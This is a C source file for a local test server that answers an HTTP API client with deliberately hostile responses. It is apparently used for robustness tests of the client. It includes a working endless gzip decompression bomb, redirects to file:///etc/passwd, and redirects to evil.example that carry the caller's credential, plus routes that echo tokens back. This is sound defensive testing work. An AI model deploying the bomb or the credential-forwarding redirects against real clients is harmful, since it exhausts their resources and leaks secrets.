/* hostile — an HTTP/1.1 server on 127.0.0.1 that misbehaves on purpose, for spec/hostile_spec.lua.
 *
 * Real sockets and bytes: every class of hostile answer a client meets in life, chosen by the
 * first segments of the request path, so a client whose base URL is http://127.0.0.1:PORT/<class>
 * gets that answer to every call (the rest of the path, the API's own, is ignored):
 *
 *   /ok/                       200, a small user object
 *   /json/<deep|bad|nul|huge|utf8|scalar>         200 with JSON too deep, cut, with a raw NUL,
 *                              of 4 MiB, with invalid UTF-8, or a bare number
 *   /length/<long|short>       Content-Length longer than the body (then close), or shorter
 *   /reset/<headers|body|now>  a TCP reset in the middle of the headers, of the body, or at once
 *   /drip/<headers|body>       one byte every 100 ms, of the headers or of the body
 *   /endless/                  a chunked body that never ends
 *   /gzip-bomb/                Content-Encoding: gzip, an endless deflate stream of zeros
 *                              (13 bytes of it inflate to 2064)
 *   /redirect/<status>/<elsewhere|file|loop|none|relative|echo>   a 3xx of that status (echo:
 *                              the Location carries the request's credential)
 *   /retry-after/<form>/<tag>/ 429 with a Retry-After of that form on the first request to a
 *                              path, then 200 with {"hits": n}: 1, frac, zero, neg, huge, digits,
 *                              year, cap, past, future, far, garbage, long, empty
 *   /echo/<depth>/             400 echoing the request's credential (Authorization: Token …, or
 *                              api-key) in the title, in a header, in a Location and at <depth>
 *                              levels inside detail
 *   /envelope/<kind>/          200 with a broken (or odd) list envelope
 *   /html/<status>/            an HTML page (its title echoes the credential); /text/ plain text
 *   /empty/<status>/           that status with an empty body
 *   /headers/<huge|many>/      one 200 KiB header line, or 20,000 header lines
 *   /error-body/<shape>/       400 with an error body of an odd shape (see error_body)
 *
 * Every answer but the streams says "Connection: close". Prints "PORT PID" on one line, then
 * serves, one thread a connection, until killed, until its parent process is gone, or for at
 * most argv[1] seconds (default 900). */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define REQ_MAX 65536

static pthread_mutex_t hits_lock = PTHREAD_MUTEX_INITIALIZER;
static struct {
    char path[1024];
    int hits;
} hits_table[512];
static int hits_next;

/* How many requests this path (with its query) has had, this one included. */
static int hit(const char *path)
{
    int i, n = 0;
    pthread_mutex_lock(&hits_lock);
    for (i = 0; i < 512; i++)
        if (hits_table[i].hits > 0 && strcmp(hits_table[i].path, path) == 0) {
            n = ++hits_table[i].hits;
            break;
        }
    if (n == 0) {
        i = hits_next++ % 512;
        snprintf(hits_table[i].path, sizeof hits_table[i].path, "%s", path);
        n = hits_table[i].hits = 1;
    }
    pthread_mutex_unlock(&hits_lock);
    return n;
}

static int send_all(int fd, const char *p, size_t n)
{
    while (n > 0) {
        ssize_t w = send(fd, p, n, MSG_NOSIGNAL);
        if (w < 0 && errno == EINTR) continue;
        if (w <= 0) return 0;
        p += w;
        n -= (size_t)w;
    }
    return 1;
}

static int send_str(int fd, const char *s)
{
    return send_all(fd, s, strlen(s));
}

static void sleep_ms(long ms)
{
    struct timespec ts;
    ts.tv_sec = ms / 1000;
    ts.tv_nsec = (ms % 1000) * 1000000L;
    while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {}
}

/* Closes with a TCP reset instead of a FIN. */
static void reset_close(int fd)
{
    struct linger l;
    l.l_onoff = 1;
    l.l_linger = 0;
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &l, sizeof l);
    close(fd);
}

/* A whole answer: status line, Content-Type, Content-Length, Connection: close, `extra`
 * header lines (each ending in \r\n), the body. */
static void respond(int fd, int status, const char *ctype, const char *body, size_t n,
                    const char *extra)
{
    size_t cap = 512 + (extra ? strlen(extra) : 0) + strlen(ctype);
    char *head = malloc(cap);
    int len;
    if (head == NULL) return;
    if (status == 204 || status == 304)
        len = snprintf(head, cap, "HTTP/1.1 %d Hostile\r\nConnection: close\r\n%s\r\n",
                       status, extra ? extra : "");
    else
        len = snprintf(head, cap,
                       "HTTP/1.1 %d Hostile\r\nContent-Type: %s\r\nContent-Length: %lu\r\n"
                       "Connection: close\r\n%s\r\n",
                       status, ctype, (unsigned long)n, extra ? extra : "");
    if (len > 0 && (size_t)len < cap && send_all(fd, head, (size_t)len) && n > 0 &&
        status != 204 && status != 304)
        send_all(fd, body, n);
    free(head);
}

static void respond_json(int fd, int status, const char *body)
{
    respond(fd, status, "application/json", body, strlen(body), NULL);
}

static const char OK_BODY[] =
    "{\"id\":\"60a42f4c693c29420793cb73\",\"email\":\"ok@example.org\",\"name\":\"Hostile\"}";

/* ---- the gzip bomb ----
 * A gzip member whose deflate data is one fixed-Huffman block that never ends: a literal 0,
 * then <length 258, distance 1> over and over, 13 bits each. After the first three bytes the
 * bits repeat every 13 bytes (8 copies), so the server sends `bomb_prefix` once and `bomb_chunk`
 * for ever. */
static unsigned char bomb_prefix[13], bomb_chunk[13 * 512];
static size_t bomb_prefix_len;

typedef struct bits {
    unsigned char *out;
    size_t cap, pos; /* pos in bits */
} bits;

static void put_bit(bits *b, int v)
{
    if (b->pos / 8 >= b->cap) return;
    if (v) b->out[b->pos / 8] |= (unsigned char)(1u << (b->pos % 8));
    b->pos++;
}

/* A Huffman code, most significant bit first (RFC 1951, 3.1.1). */
static void put_code(bits *b, unsigned code, int len)
{
    int i;
    for (i = len - 1; i >= 0; i--) put_bit(b, (code >> i) & 1);
}

static void bomb_init(void)
{
    static unsigned char buf[3 + sizeof bomb_chunk];
    static const unsigned char gzip_header[10] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
    bits b;
    size_t i, repeats = 1 + 8 * (sizeof bomb_chunk / 13);
    memset(buf, 0, sizeof buf);
    b.out = buf;
    b.cap = sizeof buf;
    b.pos = 0;
    put_bit(&b, 0);           /* BFINAL: not the last block */
    put_bit(&b, 1);           /* BTYPE 01, fixed Huffman, low bit first */
    put_bit(&b, 0);
    put_code(&b, 0x30, 8);    /* literal 0 */
    for (i = 0; i < repeats; i++) {
        put_code(&b, 0xC5, 8); /* length code 285: 258 */
        put_code(&b, 0, 5);    /* distance code 0: 1 */
    }
    memcpy(bomb_prefix, gzip_header, 10);
    memcpy(bomb_prefix + 10, buf, 3);
    bomb_prefix_len = 13;
    memcpy(bomb_chunk, buf + 3, sizeof bomb_chunk);
}

/* ---- routes ---- */

static void route_json(int fd, const char *kind)
{
    if (strcmp(kind, "deep") == 0) {
        size_t n = 200000;
        char *b = malloc(n);
        if (!b) return;
        memset(b, '[', n);
        respond(fd, 200, "application/json", b, n, NULL);
        free(b);
    } else if (strcmp(kind, "bad") == 0) {
        respond_json(fd, 200, "{\"id\": \"60a42f4c693c29420793cb73\", \"email\": ");
    } else if (strcmp(kind, "nul") == 0) {
        static const char b[] = "{\"id\":\"a\0b\"}";
        respond(fd, 200, "application/json", b, sizeof b - 1, NULL);
    } else if (strcmp(kind, "huge") == 0) {
        size_t n = 4 * 1024 * 1024, i;
        char *b = malloc(n + 16);
        if (!b) return;
        memcpy(b, "{\"id\":\"", 7);
        for (i = 7; i < n; i++) b[i] = 'a';
        memcpy(b + n, "\"}", 2);
        respond(fd, 200, "application/json", b, n + 2, NULL);
        free(b);
    } else if (strcmp(kind, "utf8") == 0) {
        respond_json(fd, 200, "{\"id\":\"60a42f4c693c29420793cb73\",\"name\":\"\xff\xfe\xc3(\"}");
    } else {
        respond_json(fd, 200, "42");
    }
}

static void route_length(int fd, const char *kind)
{
    if (strcmp(kind, "long") == 0) {
        send_str(fd, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                     "Content-Length: 1000\r\nConnection: close\r\n\r\n{\"id\":\"60a42f4c6");
        shutdown(fd, SHUT_WR);
        sleep_ms(50);
    } else {
        char head[256];
        snprintf(head, sizeof head, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                 "Content-Length: 5\r\nConnection: close\r\n\r\n%s", OK_BODY);
        send_str(fd, head);
    }
}

static void route_reset(int fd, const char *kind)
{
    if (strcmp(kind, "headers") == 0) {
        send_str(fd, "HTTP/1.1 200 OK\r\nContent-Ty");
    } else if (strcmp(kind, "body") == 0) {
        char body[100];
        memset(body, ' ', sizeof body);
        body[0] = '{';
        send_str(fd, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                     "Content-Length: 2000\r\n\r\n");
        send_all(fd, body, sizeof body);
    }
    sleep_ms(20);
    reset_close(fd);
}

static void route_drip(int fd, const char *kind)
{
    const char *head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                       "Content-Length: 100000\r\n\r\n";
    int i;
    if (strcmp(kind, "headers") == 0) {
        for (i = 0; head[i] && i < 600; i++) {
            if (!send_all(fd, head + i, 1)) return;
            sleep_ms(100);
        }
        return;
    }
    if (!send_str(fd, head)) return;
    for (i = 0; i < 600; i++) { /* a minute at most */
        if (!send_all(fd, i == 0 ? "[" : "1", 1)) return;
        sleep_ms(100);
    }
}

static void route_endless(int fd)
{
    static char chunk[16384 + 32];
    int n, i;
    if (!send_str(fd, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                      "Transfer-Encoding: chunked\r\n\r\n1\r\n[\r\n"))
        return;
    n = snprintf(chunk, 32, "%x\r\n", 16384);
    for (i = 0; i < 16384; i += 2) memcpy(chunk + n + i, "1,", 2);
    memcpy(chunk + n + 16384, "\r\n", 2);
    for (i = 0; i < 100000; i++) /* 1.6 GB at most */
        if (!send_all(fd, chunk, (size_t)n + 16384 + 2)) return;
}

static void route_bomb(int fd)
{
    int i;
    if (!send_str(fd, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                      "Content-Encoding: gzip\r\nConnection: close\r\n\r\n"))
        return;
    if (!send_all(fd, (const char *)bomb_prefix, bomb_prefix_len)) return;
    for (i = 0; i < 20000; i++) /* 130 MB of gzip, 21 GB inflated, at most */
        if (!send_all(fd, (const char *)bomb_chunk, sizeof bomb_chunk)) return;
}

static void credential(const char *req, char *out, size_t n);

static void route_redirect(int fd, const char *code, const char *kind, const char *path,
                           const char *req)
{
    int status = atoi(code);
    char extra[1400], cred[512];
    if (status < 300 || status > 399) status = 302;
    if (strcmp(kind, "file") == 0)
        snprintf(extra, sizeof extra, "Location: file:///etc/passwd\r\n");
    else if (strcmp(kind, "loop") == 0)
        snprintf(extra, sizeof extra, "Location: %.900s\r\n", path);
    else if (strcmp(kind, "none") == 0)
        extra[0] = '\0';
    else if (strcmp(kind, "relative") == 0)
        snprintf(extra, sizeof extra, "Location: /ok/\r\n");
    else if (strcmp(kind, "echo") == 0) {
        credential(req, cred, sizeof cred);
        snprintf(extra, sizeof extra, "Location: https://evil.example/cb?token=%s&k=%s\r\n", cred,
                 cred);
    }
    else
        snprintf(extra, sizeof extra, "Location: https://mallory:hunter2-password@evil.example/"
                 "steal?apiKey=QP-LEGACY-KEY-123&next=1\r\n");
    {
        const char *page = "<html><title>Moved</title></html>";
        respond(fd, status, "text/html", page, strlen(page), extra);
    }
}

static void http_date(char *buf, size_t n, time_t t)
{
    struct tm tm;
    gmtime_r(&t, &tm);
    strftime(buf, n, "%a, %d %b %Y %H:%M:%S GMT", &tm);
}

static void route_retry_after(int fd, const char *form, const char *path)
{
    static char value[9000];
    char extra[9100], body[256];
    int n = hit(path);
    time_t now = time(NULL);
    if (n > 1) {
        snprintf(body, sizeof body, "{\"id\":\"60a42f4c693c29420793cb73\",\"hits\":%d}", n);
        respond_json(fd, 200, body);
        return;
    }
    if (strcmp(form, "1") == 0) strcpy(value, "1");
    else if (strcmp(form, "frac") == 0) strcpy(value, "0.5");
    else if (strcmp(form, "zero") == 0) strcpy(value, "0");
    else if (strcmp(form, "neg") == 0) strcpy(value, "-5");
    else if (strcmp(form, "huge") == 0) strcpy(value, "999999999999999999999999999999");
    else if (strcmp(form, "digits") == 0) { memset(value, '9', 5000); value[5000] = '\0'; }
    else if (strcmp(form, "year") == 0) strcpy(value, "31536001");
    else if (strcmp(form, "cap") == 0) strcpy(value, "121");
    else if (strcmp(form, "past") == 0) http_date(value, sizeof value, now - 3600);
    else if (strcmp(form, "future") == 0) http_date(value, sizeof value, now + 2);
    else if (strcmp(form, "far") == 0) http_date(value, sizeof value, now + 400 * 86400);
    else if (strcmp(form, "long") == 0) { memset(value, 'x', 8000); value[8000] = '\0'; }
    else if (strcmp(form, "empty") == 0) value[0] = '\0';
    else strcpy(value, "soon, maybe");
    snprintf(extra, sizeof extra, "Retry-After: %s\r\n", value);
    {
        const char *e = "{\"error\":{\"status\":429,\"title\":\"Too Many Requests\","
                        "\"detail\":\"slow down\"}}";
        respond(fd, 429, "application/json", e, strlen(e), extra);
    }
}

/* The credential the request carried: the value of "Authorization: Token X" or "api-key: X". */
static void credential(const char *req, char *out, size_t n)
{
    const char *p = req;
    out[0] = '\0';
    while ((p = strstr(p, "\r\n")) != NULL) {
        const char *v;
        p += 2;
        v = strncasecmp(p, "authorization: token ", 21) == 0 ? p + 21
                      : strncasecmp(p, "api-key: ", 9) == 0 ? p + 9 : NULL;
        if (v) {
            size_t k = strcspn(v, "\r\n");
            if (k >= n) k = n - 1;
            memcpy(out, v, k);
            out[k] = '\0';
            return;
        }
    }
}

static void route_echo(int fd, const char *depth_s, const char *req)
{
    char cred[512], extra[1400];
    int depth = atoi(depth_s), i;
    size_t cap, len = 0;
    char *b;
    credential(req, cred, sizeof cred);
    if (depth < 0 || depth > 900) depth = 5;
    cap = (size_t)depth * (40 + strlen(cred)) + 4 * strlen(cred) + 1024;
    b = malloc(cap);
    if (!b) return;
#define ADD(...) (len += (size_t)snprintf(b + len, cap - len, __VA_ARGS__))
    ADD("{\"error\":{\"status\":400,\"error_code\":140001,\"title\":\"Invalid token %s\","
        "\"detail\":{\"token\":[\"%s is not valid\"],\"%s\":[\"echoed as a field name\"],\"deep\":",
        cred, cred, cred);
    for (i = 0; i < depth; i++) ADD("{\"k\":\"%s\",\"v\":", i % 7 == 0 ? cred : "level");
    ADD("[\"at the bottom: %s\", {\"url\":\"https://x.example/?apiKey=%s&a=1\"}]", cred, cred);
    for (i = 0; i < depth; i++) ADD("}");
    ADD("}}}");
#undef ADD
    snprintf(extra, sizeof extra, "X-Echo: %s\r\nSet-Cookie: session=%s; HttpOnly\r\n", cred, cred);
    respond(fd, 400, "application/json", b, len, extra);
    free(b);
}

static void route_envelope(int fd, const char *kind)
{
    static const struct {
        const char *name, *body;
    } bodies[] = {
        {"results-5", "{\"results\":5}"},
        {"results-object", "{\"results\":{}}"},
        {"results-object-full", "{\"results\":{\"a\":{\"id\":\"60aca280709ee40ec37d4885\"}}}"},
        {"array", "[]"},
        {"array-full", "[{\"id\":\"60aca280709ee40ec37d4885\"}]"},
        {"numbers", "{\"results\":[1,2]}"},
        {"empty-object", "{}"},
        {"string", "\"results\""},
        {"null-results", "{\"results\":null}"},
        {"odd-meta", "{\"results\":[{\"id\":\"60aca280709ee40ec37d4885\"}],\"meta\":5,"
                     "\"_links\":5}"},
        {"count-huge", "{\"results\":[],\"meta\":{\"count\":1e300}}"},
        {"count-2p63", "{\"results\":[],\"meta\":{\"count\":9223372036854775808}}"},
        {"count-string", "{\"results\":[],\"meta\":{\"count\":\"lots\"}}"},
        {"empty-list", "{\"results\":[],\"meta\":{\"count\":0}}"},
    };
    size_t i;
    for (i = 0; i < sizeof bodies / sizeof bodies[0]; i++)
        if (strcmp(kind, bodies[i].name) == 0) {
            respond_json(fd, 200, bodies[i].body);
            return;
        }
    respond_json(fd, 404, "{\"error\":{\"title\":\"no such envelope\"}}");
}

static void route_html(int fd, int status, const char *req)
{
    char cred[512], body[2048];
    credential(req, cred, sizeof cred);
    snprintf(body, sizeof body,
             "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">\n<title>\n  Sign in \xe2\x80\x93 "
             "Example SSO for %s, a title long enough to be shortened before it is shown to "
             "anyone at all</title></head><body><h1>Please sign in</h1></body></html>",
             cred);
    respond(fd, status < 200 ? 200 : status, "text/html; charset=utf-8", body, strlen(body), NULL);
}

static void route_headers(int fd, const char *kind)
{
    size_t n, i, len = 0;
    char *b;
    if (strcmp(kind, "huge") == 0) {
        n = 200 * 1024;
        b = malloc(n + 256);
        if (!b) return;
        len += (size_t)sprintf(b, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Big: ");
        for (i = 0; i < n; i++) b[len++] = 'a';
        len += (size_t)sprintf(b + len, "\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}");
    } else {
        n = 20000;
        b = malloc(n * 24 + 256);
        if (!b) return;
        len += (size_t)sprintf(b, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n");
        for (i = 0; i < n; i++) len += (size_t)sprintf(b + len, "X-H-%lu: v\r\n", (unsigned long)i);
        len += (size_t)sprintf(b + len, "Content-Length: 2\r\nConnection: close\r\n\r\n{}");
    }
    send_all(fd, b, len);
    free(b);
}

/* Error bodies of odd shapes, for the error decoder. */
static void route_error_body(int fd, const char *shape)
{
    size_t cap = 4 * 1024 * 1024, len = 0;
    int i, nf = 0;
    char *b = malloc(cap);
    if (!b) return;
#define ADD(...) (len += (size_t)snprintf(b + len, cap - len, __VA_ARGS__))
    if (sscanf(shape, "fields%d", &nf) == 1 && nf > 0 && nf <= 5000) {
        ADD("{\"error\":{\"status\":400,\"title\":\"Invalid\",\"detail\":{");
        for (i = 0; i < nf; i++) ADD("%s\"field_%04d\":[\"bad %d\"]", i ? "," : "", i, i);
        ADD("}}}");
    } else if (strcmp(shape, "nonstring-first") == 0) {
        ADD("{\"error\":{\"title\":\"Invalid\",\"detail\":{\"reward\":[5,null,{\"x\":1},"
            "\"must be a number\",\"must be positive\"],\"name\":[true,\"required\"]}}}");
    } else if (strcmp(shape, "nested") == 0) {
        ADD("{\"error\":{\"title\":\"Invalid\",\"detail\":{\"filters\":[{\"selected_range\":"
            "{\"lower\":[\"must be a number\"]}},[[\"deeper\"]]],\"x\":{\"y\":{\"z\":\"w\"}}}}}");
    } else if (strcmp(shape, "huge-string") == 0) {
        ADD("{\"error\":{\"title\":\"Huge\",\"detail\":\"");
        for (i = 0; i < 2 * 1024 * 1024; i++) b[len++] = 'x';
        ADD("\"}}");
    } else if (strcmp(shape, "invalid-utf8") == 0) {
        ADD("{\"error\":{\"title\":\"Bad \xff\xfe\",\"detail\":[\"\xc3\x28 \xa0\xa1\","
            "\"\xf0\x28\x8c\xbc\"]}}");
    } else if (strcmp(shape, "deep") == 0) {
        ADD("{\"error\":{\"title\":\"Deep\",\"detail\":");
        for (i = 0; i < 990; i++) ADD("{\"a\":");
        ADD("\"bottom\"");
        for (i = 0; i < 990; i++) ADD("}");
        ADD("}}");
    } else if (strcmp(shape, "too-deep") == 0) {
        ADD("{\"error\":{\"title\":\"Deep\",\"detail\":");
        for (i = 0; i < 100000; i++) ADD("[");
    } else if (strcmp(shape, "arrays") == 0) {
        ADD("{\"error\":{\"detail\":[[\"a\",[\"b\"]],{\"c\":\"d\"},null,1.5,\"e\"]}}");
    } else if (strcmp(shape, "flat-odd") == 0) {
        ADD("{\"message\":{\"not\":\"a string\"},\"detail\":{\"\":[],\"k\":null},\"title\":7}");
    } else {
        ADD("{\"response\":{\"error\":{\"id\":{\"x\":1},\"name\":[1],\"message\":5}}}");
    }
#undef ADD
    respond(fd, 400, "application/json", b, len, NULL);
    free(b);
}

/* The i-th segment of path (0-based) into out ("" when there is none). */
static void segment(const char *path, int i, char *out, size_t n)
{
    const char *p = path;
    size_t k;
    while (*p == '/') p++;
    for (; i > 0 && *p; i--) {
        p += strcspn(p, "/?");
        while (*p == '/') p++;
    }
    k = strcspn(p, "/?");
    if (k >= n) k = n - 1;
    memcpy(out, p, k);
    out[k] = '\0';
}

static void *serve(void *arg)
{
    int fd = *(int *)arg;
    char *req = malloc(REQ_MAX + 1), path[1024], a[64], b[64], c[64];
    size_t len = 0;
    free(arg);
    if (req == NULL) {
        close(fd);
        return NULL;
    }
    /* the request head (the body, if any, is left unread: every answer closes) */
    while (len < REQ_MAX) {
        ssize_t r = recv(fd, req + len, REQ_MAX - len, 0);
        if (r <= 0) break;
        len += (size_t)r;
        req[len] = '\0';
        if (strstr(req, "\r\n\r\n")) break;
    }
    req[len] = '\0';
    if (sscanf(req, "%*s %1023s", path) != 1) {
        close(fd);
        free(req);
        return NULL;
    }
    segment(path, 0, a, sizeof a);
    segment(path, 1, b, sizeof b);
    segment(path, 2, c, sizeof c);
    if (strcmp(a, "json") == 0) route_json(fd, b);
    else if (strcmp(a, "length") == 0) route_length(fd, b);
    else if (strcmp(a, "reset") == 0) { route_reset(fd, b); free(req); return NULL; }
    else if (strcmp(a, "drip") == 0) route_drip(fd, b);
    else if (strcmp(a, "endless") == 0) route_endless(fd);
    else if (strcmp(a, "gzip-bomb") == 0) route_bomb(fd);
    else if (strcmp(a, "redirect") == 0) route_redirect(fd, b, c, path, req);
    else if (strcmp(a, "retry-after") == 0) route_retry_after(fd, b, path);
    else if (strcmp(a, "echo") == 0) route_echo(fd, b, req);
    else if (strcmp(a, "envelope") == 0) route_envelope(fd, b);
    else if (strcmp(a, "html") == 0) route_html(fd, atoi(b), req);
    else if (strcmp(a, "text") == 0) {
        const char *t = "Service temporarily unavailable, please try again later.";
        respond(fd, 200, "text/plain", t, strlen(t), NULL);
    } else if (strcmp(a, "empty") == 0) respond(fd, atoi(b) ? atoi(b) : 200, "application/json", "", 0, NULL);
    else if (strcmp(a, "headers") == 0) route_headers(fd, b);
    else if (strcmp(a, "error-body") == 0) route_error_body(fd, b);
    else respond_json(fd, 200, OK_BODY);
    shutdown(fd, SHUT_WR);
    /* drain what the client still sends, so that closing does not reset the answer away */
    {
        char sink[4096];
        struct timeval tv;
        tv.tv_sec = 1;
        tv.tv_usec = 0;
        setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        while (recv(fd, sink, sizeof sink, 0) > 0) {}
    }
    close(fd);
    free(req);
    return NULL;
}

static pid_t parent;
static int lifetime;

static void *watchdog(void *arg)
{
    int i;
    (void)arg;
    for (i = 0; i < lifetime; i++) {
        sleep(1);
        if (getppid() != parent) _exit(0);
    }
    _exit(0);
    return NULL;
}

int main(int argc, char **argv)
{
    struct sockaddr_in addr;
    socklen_t alen = sizeof addr;
    int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    pthread_t t;
    pthread_attr_t attr;
    lifetime = argc > 1 ? atoi(argv[1]) : 900;
    if (lifetime <= 0) lifetime = 900;
    parent = getppid();
    signal(SIGPIPE, SIG_IGN);
    bomb_init();
    if (s < 0) return 1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    memset(&addr, 0, sizeof addr);
    addr.sin_family = AF_INET;
    addr.sin_port = 0;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (bind(s, (struct sockaddr *)&addr, sizeof addr) != 0 || listen(s, 64) != 0) return 1;
    if (getsockname(s, (struct sockaddr *)&addr, &alen) != 0) return 1;
    printf("%d %d\n", (int)ntohs(addr.sin_port), (int)getpid());
    fflush(stdout);
    pthread_attr_init(&attr);
    pthread_attr_setdetachstate(&attr, PTHREAD_CREATE_DETACHED);
    pthread_create(&t, &attr, watchdog, NULL);
    for (;;) {
        int c = accept(s, NULL, NULL), *arg;
        if (c < 0) {
            if (errno == EINTR || errno == ECONNABORTED || errno == EMFILE) continue;
            return 1;
        }
        arg = malloc(sizeof *arg);
        if (arg == NULL) {
            close(c);
            continue;
        }
        *arg = c;
        if (pthread_create(&t, &attr, serve, arg) != 0) {
            close(c);
            free(arg);
        }
    }
}
